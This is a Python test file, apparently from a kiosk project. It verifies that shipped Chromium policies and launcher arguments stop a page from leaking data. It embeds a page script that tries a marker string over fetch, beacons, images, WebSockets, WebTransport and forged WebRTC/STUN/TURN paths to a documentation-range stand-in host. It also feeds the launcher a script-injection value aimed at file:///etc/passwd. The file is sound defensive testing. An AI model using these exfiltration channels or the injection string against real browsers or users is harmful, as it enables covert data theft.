"""Where a page in the kiosk's browser can carry something: elsewhere.py STAGE.

The program `kiosk`, beside STAGE, is asked for a browser as its core asks for one: with a page of the choice of whoever got into that, which keeps to no
policy of ours. What it sends to another address is heard there. Nothing may be: under the policies that the package ships and with the launcher's own
arguments, nor under the policies alone. The controls: with neither, every way leads there; with the launcher's arguments alone, WebRTC does.

Nor is anything written for the browser that whoever got into the core chose the words of: what is no port and no secret ends the launcher.

The policies lie where Chromium looks for them, and the other address is one of this machine's, both in namespaces that are a process's own.
"""

import contextlib
import json
import os
import re
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import unquote

POLICIES = Path(__file__).parents[2] / "kiosk-agent/package/chromium.json"
# Of a network that is nobody's (RFC 5737), and of this machine's interface to it.
ELSEWHERE, OWN = "203.0.113.5", "203.0.113.1"
# Where the unit has the profiles lie, and the policies let the page be opened from.
MEMORY = "/run/shomei-kiosk"
# Longer than a browser takes to be started and to try everything on a busy machine.
PATIENCE = 120
# What would be carried.
TEXT = "sakura201112304512"
# Chromium's sandbox does not work for root, and there is no screen here: as in `stage::browser`.
HEADLESS = ["--no-sandbox", "--headless=new", "--disable-gpu"]

# A network of two, and folders of Chromium's that are empty. Loopback alone is no network to WebRTC.
APART = f"""
ip link set lo up
ip link add here type veth peer name there
ip addr add {OWN}/24 dev here && ip link set here up && ip link set there up
ip addr add {ELSEWHERE}/32 dev lo
mount -t tmpfs tmpfs /etc/chromium
mount -t tmpfs tmpfs /run && mkdir {MEMORY}
exec "$@"
"""

# Each way is tried for a while, one after the other; what is awaited never comes.
# Each way is over when it failed, or when it had its time, for what WebRTC waits for never comes.
PAGE = """<!doctype html><title>page</title><body><script>
const [elsewhere, text, ports] = GIVEN;
const once = (target, ...events) => new Promise((done) => events.forEach((event) => target.addEventListener(event, done)));
const add = (name, properties, ...events) => {
  const element = Object.assign(document.createElement(name), properties);
  const over = once(element, ...events);
  document.body.append(element);
  return over;
};
const peer = async (iceServers, candidate) => {
  const peer = new RTCPeerConnection({ iceServers });
  peer.createDataChannel("a");
  const gathered = new Promise((done) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === "complete" && done(); });
  await peer.setLocalDescription(await peer.createOffer());
  if (!candidate) return gathered;
  const print = peer.localDescription.sdp.match(/a=fingerprint:.*/)[0].trim();
  const sdp = ["v=0", "o=- 1 2 IN IP4 127.0.0.1", "s=-", "t=0 0", "a=group:BUNDLE 0", "a=ice-lite", "m=application 9 UDP/DTLS/SCTP webrtc-datachannel",
    "c=IN IP4 0.0.0.0", `a=ice-ufrag:${text}`, "a=ice-pwd:abcdefghijklmnopqrstuvwx", print, "a=setup:passive", "a=mid:0", "a=sctp-port:5000",
    `a=candidate:1 1 ${candidate}`, ""];
  await peer.setRemoteDescription({ type: "answer", sdp: sdp.join("\\r\\n") });
  return new Promise(() => {});
};
const turn = (url) => peer([{ urls: url, username: text, credential: "x" }]);
const ways = {
  fetch: (at) => fetch(`http://${at}/${text}`, { mode: "no-cors" }),
  beacon: (at) => navigator.sendBeacon(`http://${at}/`, text),
  image: (at) => add("img", { src: `http://${at}/${text}` }, "load", "error"),
  frame: (at) => add("iframe", { src: `http://${at}/${text}` }, "load"),
  preconnect: (at) => add("link", { rel: "preconnect", href: `http://${at}` }, "error"),
  websocket: (at) => once(new WebSocket(`ws://${at}/${text}`), "close"),
  webtransport: (at) => new WebTransport(`https://${at}/${text}`).ready,
  stun: (at) => peer([{ urls: `stun:${at}` }]),
  "turn by UDP": (at) => turn(`turn:${at}`),
  "turn by TCP": (at) => turn(`turn:${at}?transport=tcp`),
  "turn by TLS": (at) => turn(`turns:${at}?transport=tcp`),
  "peer by UDP": (at) => peer([], `udp 2113937151 ${at.replace(":", " ")} typ host`),
  "peer by TCP": (at) => peer([], `tcp 1518280447 ${at.replace(":", " ")} typ host tcptype passive`),
};
(async () => {
  for (const [name, way] of Object.entries(ways)) {
    const time = new Promise((done) => setTimeout(done, 4000));
    await Promise.race([Promise.resolve(`${elsewhere}:${ports[name]}`).then(way).catch(() => {}), time]);
    await fetch(`/said/${encodeURIComponent(name)}`);
  }
  await fetch("/said/done");
})();
</script>
"""

WAYS = {"fetch", "beacon", "image", "frame", "preconnect", "websocket", "webtransport", "stun", "turn by UDP", "turn by TCP", "turn by TLS", "peer by UDP",
        "peer by TCP"}
# What the launcher's arguments do not stop: they hold names and addresses, and not WebRTC's datagrams.
DATAGRAMS = {"stun", "turn by UDP", "peer by UDP"}
# Undoes the launcher's.
NAMES_RESOLVE = "--host-resolver-rules="


class Elsewhere:
    """Listens at the other address, on a port of its own for each way, and says which of them anything came by."""

    def __init__(self):
        self.heard = set()
        self.ports = {}
        for way in WAYS:
            stream = socket.create_server((ELSEWHERE, 0))
            self.ports[way] = stream.getsockname()[1]
            datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            datagrams.bind((ELSEWHERE, self.ports[way]))
            threading.Thread(target=self.accept, args=(way, stream), daemon=True).start()
            threading.Thread(target=self.receive, args=(way, datagrams), daemon=True).start()

    def accept(self, way, stream):
        while True:
            connection, _ = stream.accept()
            self.heard.add(way)
            connection.close()

    def receive(self, way, datagrams):
        while True:
            datagrams.recv(2000)
            self.heard.add(way)


class Own(ThreadingHTTPServer):
    """Serves the page where the kiosk's is, and hears what it tried."""

    def __init__(self, ports):
        super().__init__(("127.0.0.1", 0), Handler)
        self.page = PAGE.replace("GIVEN", json.dumps([ELSEWHERE, TEXT, ports])).encode()
        self.said = []
        self.done = threading.Event()
        threading.Thread(target=self.serve_forever, daemon=True).start()


class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        if self.path.startswith("/said/"):
            said = unquote(self.path.removeprefix("/said/"))
            self.server.said.append(said)
            if said == "done":
                self.server.done.set()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.end_headers()
        self.wfile.write(self.server.page if self.path == "/" else b"")

    def log_message(self, *_):
        pass


@contextlib.contextmanager
def launcher(kiosk, **settings):
    """The kiosk's, and its core's end of what they speak by: the frames of `terminal::beside::launcher`."""
    core, other = socket.socketpair()
    with subprocess.Popen([kiosk, "--launch"], stdin=other) as process:
        other.close()
        settings = json.dumps({"full_screen": True, **settings}).encode()
        core.sendall(struct.pack(">I", len(settings)) + settings)
        yield core, process


@contextlib.contextmanager
def browser(program, port, arguments):
    """One that shows the page at this port."""
    with launcher(program, program="/usr/bin/chromium", arguments=[*HEADLESS, *arguments], memory=MEMORY) as (core, process):
        core.sendall(struct.pack(">cIH32s", b"s", 1, port, os.urandom(32)))
        assert core.recv(5, socket.MSG_WAITALL) == struct.pack(">cI", b"+", 1), "no browser was started"
        try:
            yield
        finally:
            # It ends its browser and then itself.
            core.shutdown(socket.SHUT_WR)
            process.wait(timeout=PATIENCE)
            core.close()


def written(program, words):
    """What lies before a browser when the core says these words for its page, and whether the launcher goes on."""
    with tempfile.TemporaryDirectory(dir="/dev/shm") as memory:
        shown = Path(memory, "shown")
        look = Path(memory, "browser")
        look.write_text(f'#!/bin/sh\ncat "$HOME"/* > {shown}.draft && mv {shown}.draft {shown} && exec sleep {PATIENCE}\n')
        look.chmod(0o700)
        with launcher(program, program=str(look), arguments=[], memory=memory) as (core, process):
            core.sendall(struct.pack(">cI", b"s", 1) + words)
            if core.recv(5, socket.MSG_WAITALL) == struct.pack(">cI", b"+", 1):
                deadline = time.monotonic() + PATIENCE
                while not shown.exists() and process.poll() is None and time.monotonic() < deadline:
                    time.sleep(0.05)
            goes_on = False
            # Whoever has ended hears nothing more.
            with contextlib.suppress(BrokenPipeError, ConnectionResetError):
                core.sendall(struct.pack(">cI", b"e", 1))
                goes_on = core.recv(5) != b""
            core.close()
            process.wait(timeout=PATIENCE)
        return shown.read_text() if shown.exists() else "", goes_on


def chosen(program):
    """Nothing is written but a port and digits, whatever the core says."""
    script = b'"><script>location="file:///etc/passwd"</script>' + TEXT.encode()
    page = re.compile(r'<!doctype html><meta charset="utf-8"><title>Shomei</title>'
                      r'<meta http-equiv="refresh" content="0;url=http://127\.0\.0\.1:\d+/#[0-9a-f]{64}">')
    for words, expected in (
        (struct.pack(">H32s", 1, script), True),
        (struct.pack(">H32s", 1, script[-32:]), True),
        # An address with its length.
        (struct.pack(">H", len(script)) + script, False),
    ):
        shown, goes_on = written(program, words)
        assert goes_on == expected, words
        assert page.fullmatch(shown) if expected else not shown or page.fullmatch(shown), shown
    print("for the browser: a port and digits", flush=True)


def within(program, policies, arguments, awaited):
    """Which ways lead elsewhere; in namespaces of this process's own. Those that are awaited may take their time."""
    if policies:
        folder = Path("/etc/chromium/policies/managed")
        folder.mkdir(parents=True)
        (folder / "shomei-kiosk.json").write_bytes(POLICIES.read_bytes())
    elsewhere = Elsewhere()
    own = Own(elsewhere.ports)
    with browser(program, own.server_port, arguments):
        assert own.done.wait(PATIENCE), f"the page tried no more than {own.said}"
        deadline = time.monotonic() + PATIENCE
        while not awaited <= elsewhere.heard and time.monotonic() < deadline:
            time.sleep(0.1)
    assert own.said[-1] == "done" and set(own.said[:-1]) == WAYS, own.said
    print(json.dumps(sorted(elsewhere.heard)), flush=True)


def ways(*how):
    """The same, in a process that takes these namespaces for itself."""
    command = ["unshare", "--mount", "--net", "--pid", "--fork", "--kill-child", "--mount-proc", "--", "sh", "-ec", APART, "sh", sys.executable, __file__]
    inside = subprocess.run([*command, json.dumps(how)], stdout=subprocess.PIPE, check=True, text=True)
    return set(json.loads(inside.stdout))


def main(stage):
    program = str(Path(stage).with_name("kiosk"))
    chosen(program)
    for what, policies, arguments, expected in (
        ("with neither", False, [NAMES_RESOLVE], WAYS),
        ("without policies", False, [], DATAGRAMS),
        ("under the policies alone", True, [NAMES_RESOLVE], set()),
        ("as a kiosk's", True, [], set()),
    ):
        heard = ways(program, policies, arguments, sorted(expected))
        print(f"{what}: {', '.join(sorted(heard)) or 'nothing'}", flush=True)
        assert heard == expected, f"{what}: {sorted(heard ^ expected)}"
    print("done", flush=True)


if sys.argv[1].startswith("["):
    *how, awaited = json.loads(sys.argv[1])
    within(*how, set(awaited))
else:
    main(sys.argv[1])
